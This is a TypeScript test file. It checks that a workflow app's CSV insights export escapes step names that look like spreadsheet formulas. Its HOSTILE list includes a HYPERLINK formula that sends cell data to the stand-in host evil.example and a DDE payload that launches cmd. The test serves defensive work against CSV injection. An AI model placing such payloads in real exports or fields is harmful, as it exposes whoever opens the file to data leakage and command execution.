import { describe, expect, it } from 'vitest';
import { def, engineOf, insertRecord, insertSequence, stepsOfRecord } from '../connections/helpers.ts';
import { createWorld } from '../support/world.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Report")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
];

describe('CSV exports are safe to open in a spreadsheet (issue 20 item 10)', () => {
  it('insights CSV: step names a seller typed that start like a formula are written as text', async () => {
    const world = await createWorld('sqlite');
    const engine = engineOf(world);
    try {
      const { sequenceId } = await insertSequence(
        world,
        def({
          start: 'n0',
          nodes: HOSTILE.map((name, i) => ({
            id: `n${i}`,
            kind: 'task',
            name,
            next: i + 1 < HOSTILE.length ? `n${i + 1}` : null,
          })),
        }),
      );
      const recordId = await insertRecord(world, { email: null });
      const connected = await world.as('eastSeller', 'POST', `/api/records/${recordId}/connection`, {
        sequenceId,
      });
      expect(connected.statusCode, connected.body).toBe(201);
      await engine.drain();
      // Work through every step, so each name shows in the export.
      for (let i = 0; i < HOSTILE.length; i++) {
        const open = (await stepsOfRecord(world, recordId)).find((step) => step.status === 'due');
        const done = await world.as('eastSeller', 'POST', `/api/steps/${open!.id}/complete`, {});
        expect(done.statusCode, done.body).toBe(200);
        await engine.drain();
      }
      const csv = await world.as('eastAdmin', 'GET', `/api/sequences/${sequenceId}/insights.csv?days=30`);
      expect(csv.statusCode).toBe(200);
      const lines = csv.body.split('\r\n').filter((line) => line.length > 0);
      const first = lines.find((line) => line.startsWith('n0,'));
      expect(first, csv.body).toBe(
        `n0,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Report"")",task,1,0,0,0,0,0,0,0,0,0`,
      );
      // Every cell of every data row: nothing a spreadsheet would evaluate.
      expect(lines).toHaveLength(HOSTILE.length + 1);
      expect(lines).toContain("n2,'-2+3,task,1,0,0,0,0,0,0,0,0,0");
      expect(lines).toContain("n3,'@SUM(A1:A9),task,1,0,0,0,0,0,0,0,0,0");
      for (const line of lines.slice(1)) {
        for (const cell of line.split(',')) {
          expect(/^"?[=+\-@\t\r]/.test(cell), `${cell} in ${line}`).toBe(false);
        }
      }
    } finally {
      await engine.stop();
      await world.close();
    }
  });
});
